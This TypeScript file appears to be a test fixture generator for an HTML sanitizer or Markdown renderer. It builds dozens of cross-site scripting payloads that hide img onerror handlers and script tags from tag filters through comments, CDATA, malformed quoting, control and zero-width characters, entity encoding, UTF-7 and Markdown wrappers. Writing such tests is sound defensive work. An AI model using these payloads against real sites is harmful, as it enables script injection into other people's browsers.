import { family, type Payload } from './payload'

/** Comments, declarations and half tags that hide HTML from a filter of tags. */
export function htmlThatHides(origin: string): Payload[] {
  return family(
    origin,
    {
      'hide-comment-inline': ({ url }) => `words <!-- <img src="${url}"> --> words`,
      'hide-comment-closed-at-once': ({ script }) =>
        `words <!--> <img src=x onerror="${script}"> -->`,
      'hide-comment-closed-with-bang': ({ script }) =>
        `<!-- --!> <img src=x onerror="${script}"> -->`,
      'hide-comment-in-attribute': ({ script }) =>
        `<p title="<!--"><img src=x onerror="${script}">-->`,
      'hide-conditional': ({ script }) =>
        `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
      'hide-cdata-inline': ({ script }) => `words <![CDATA[<script>${script}</script>]]> words`,
      'hide-instruction-inline': ({ script }) => `words <?xml <script>${script}</script> ?> words`,
      'hide-doctype': ({ url }) => `<!DOCTYPE html SYSTEM "${url}" [<!ENTITY x SYSTEM "${url}">]>`,
      'hide-half-tag-then-blank': ({ script }) => `<img src=x onerror="${script}"\n\nwords >`,
      'hide-double-bracket': ({ script }) => `<<img src=x onerror="${script}">>`,
      'hide-closing-only': ({ script }) => `</p></div></article><img src=x onerror="${script}">`,
      'hide-break-out-of-page': ({ script }) => `</main></body></html><script>${script}</script>`,
      'hide-quotes-unbalanced': ({ script }) => `<img src="x" title="a"b"" onerror="${script}">`,
      'hide-attribute-without-space': ({ script }) => `<a href="x"onclick="${script}">a word</a>`,
      'hide-backticks-as-quotes': ({ script }) => `<img src=\`x\` onerror=\`${script}\`>`,
      'hide-null-in-tag': ({ script }) => `<im\0g src=x onerror="${script}">`,
      'hide-form-feed-in-tag': ({ script }) => `<img\fsrc=x\fonerror="${script}">`,
      'hide-vertical-tab-in-tag': ({ script }) => `<img\vsrc=x\vonerror="${script}">`,
      'hide-zero-width-in-tag': ({ script }) => `<\u200Bimg src=x onerror="${script}">`,
      'hide-dotless-letter': ({ script }) =>
        `<scrıpt>${script}</scrıpt> <ſcript>${script}</ſcript>`,
      'hide-tag-in-markdown-link': ({ url, script }) =>
        `[a <img src=x onerror="${script}"> word](${url})`,
      'hide-tag-in-heading': ({ script }) => `## Title <img src=x onerror="${script}">`,
      'hide-tag-in-cell': ({ script }) => `| <img src=x onerror="${script}"> |\n| - |\n| c |`,
      'hide-tag-in-item': ({ script }) => `- [ ] <img src=x onerror="${script}">\n- two`,
      'hide-tag-in-quote': ({ script }) => `> <div>\n> <img src=x onerror="${script}">\n> </div>`,
      'hide-markdown-between-tags': ({ url }) => `<div>\n\n![a cat](${url})\n\n</div>`,
      'hide-markdown-in-tag': ({ url }) => `<b title="![a cat](${url})">![a cat](${url}?2)</b>`,
      'hide-entity-in-attribute': ({ script }) =>
        `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${script}">x</a>`,
      'hide-escape-before-tag': ({ script }) => String.raw`\<img src=x onerror="${script}">`,
      'hide-escape-escaped': ({ script }) => String.raw`\\<img src=x onerror="${script}">`,
      'hide-tag-in-code-span': ({ script }) => `\`</code><img src=x onerror="${script}">\``,
      'hide-tag-across-code-span': ({ script }) => `<img \`src=x\` onerror="${script}">`,
      'hide-tag-across-emphasis': ({ script }) => `<img src=x *onerror="${script}">*`,
      'hide-utf-7': ({ script }) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
    },
    {
      'hide-comment': ({ url }) => `<!-- a\n\n<img src="${url}">\n\n-->\n\n![a cat](${url}?after)`,
      'hide-comment-never-closed': ({ url, script }) =>
        `<!--\n\n<img src="${url}" onerror="${script}">\n\n![a cat](${url}?markdown)`,
      'hide-cdata': ({ script }) => `<![CDATA[\n\n<script>${script}</script>\n\n]]>\n\nafter`,
      'hide-instruction': ({ script }) => `<?php\n\n<script>${script}</script>\n\n?>\n\nafter`,
      'hide-half-tag-at-end': ({ script }) => `words <img src=x onerror="${script}"`,
      'hide-half-attribute-at-end': ({ url }) => `words <img src="${url}`,
    },
  )
}
